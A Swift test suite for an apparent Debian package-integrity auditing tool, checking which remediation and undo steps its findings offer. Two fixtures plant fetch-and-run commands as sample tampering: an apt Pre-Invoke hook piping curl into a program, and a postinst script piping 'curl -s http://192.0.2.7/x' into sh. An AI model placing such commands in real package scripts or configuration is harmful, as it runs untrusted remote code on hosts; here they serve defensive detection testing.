import AuditModel
import AuditTestSupport
import Testing

@testable import IntegrityJudgement

/// Which steps of a check a finding is given.
@Suite struct `Steps of a finding` {
    private func findings(_ builder: EvidenceBuilder) -> [JudgedFinding] {
        var scene = Scene()
        scene.builder = builder
        return scene.judgement().findings
    }

    @Test func `a file that no package ships is neither compared with an archive nor restored from one`() throws {
        var builder = EvidenceBuilder()
        builder.apt("/etc/apt/apt.conf.d/99x", [(.append, "DPkg::Pre-Invoke", "curl x | /opt/agent --run")])
        let finding = try #require(findings(builder).first { $0.finding.check == AptConfExecutes.id })
        let ids = finding.guidance.map(\.id)
        #expect(!ids.contains("restore-from-archive") && !ids.contains("compare-file-with-archive"))
        #expect(ids.contains("remove-configuration"))
        #expect(finding.programs == ["curl", "/opt/agent"])
    }

    @Test(arguments: [true, false])
    func `a broken file is restored from an archive only where a package ships it`(isOwned: Bool) throws {
        var builder = EvidenceBuilder()
        builder.install("tool")
        builder.apt("/etc/apt/apt.conf.d/99x", [], problems: [.textBehindStatements])
        if isOwned { builder.own("/etc/apt/apt.conf.d/99x", by: "tool") }
        let finding = try #require(findings(builder).first { $0.finding.check == AptConfSyntax.id })
        #expect(finding.guidance.contains { $0.id == "restore-from-archive" } == isOwned)
        #expect(finding.guidance.contains { $0.id == "compare-file-with-archive" } == isOwned)
    }

    @Test func `what is put where nothing was is undone by taking it away`() throws {
        let check = ControlMemberMissing()
        var evidence = Scene().builder.evidence
        evidence.tree.ledger.index()
        let path: HostPath = "/var/lib/dpkg/info/tool.md5sums"
        let key = PackageKey(name: "tool", architecture: "amd64")
        let assessment = Assessment(verdict: .missing, rung: .contradicted, reason: "gone")
        let view = EvidenceView(
            evidence: evidence, assessments: [:],
            missing: [MissingMember(path: path, package: key, member: "md5sums", assessment: assessment)])
        func undo(_ path: HostPath) -> GuidanceLine? {
            let finding = Finding(check: check.id, severity: .high, path: path, package: key, title: "x")
            return FindingSteps(view).steps(of: check, for: finding).first { $0.id == "restore-control-record" }?.undo
        }
        #expect(undo(path) == .command("rm \(.rootedPath)"))
        #expect(undo("/var/lib/dpkg/info/tool.list") == CommonSteps.copyBack)
    }

    @Test func `what a finding's file runs is asked for only where it is known`() {
        var builder = EvidenceBuilder()
        builder.install("tool")
        builder.script("tool", "postinst", "#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n")
        for finding in findings(builder) where finding.finding.check == SuspiciousContent.id {
            #expect(!finding.guidance.contains { $0.id == "preserve-named-programs" })
        }
    }

    private func commands(_ lines: [GuidanceLine?]) -> [CommandTemplate] {
        lines.compactMap { line in
            if case .command(let command)? = line { command } else { nil }
        }
    }

    @Test func `no step puts files into one flat folder, and every copy is made without overwriting`() {
        for step in CheckCatalog.checks.flatMap(\.guidance) {
            for command in (step.commands + commands([step.undo])).map({ Scene.text($0) }) {
                #expect(!command.hasSuffix(" evidence/"), "\(step.id): \(command)")
                #expect(!command.contains("cp -a") || command.contains("--no-clobber") || command.contains("--remove-"))
                #expect(!command.contains("install -") || command.contains("&& <intact> && install"), "\(step.id)")
            }
        }
    }

    @Test func `every audit names the tree, and what changes the host says so`() {
        for step in CheckCatalog.checks.flatMap(\.guidance) {
            for template in step.commands + commands([step.verify, step.undo]) {
                let command = Scene.text(template)
                if command.hasPrefix("debvouch ") { #expect(template.holes.contains(.root), "\(step.id): \(command)") }
                let first = command.split(separator: " ").first ?? ""
                let acts = ["systemctl", "apt-get", "apt-config", "nft", "kill"].contains(first)
                let isConfigure = command.hasPrefix("dpkg --configure")
                #expect(template.place != .anywhere || (!acts && !isConfigure), "\(step.id): \(command)")
                #expect(!command.contains("ausearch -f") && !command.hasPrefix("last -F |"), "\(step.id)")
            }
        }
    }
}
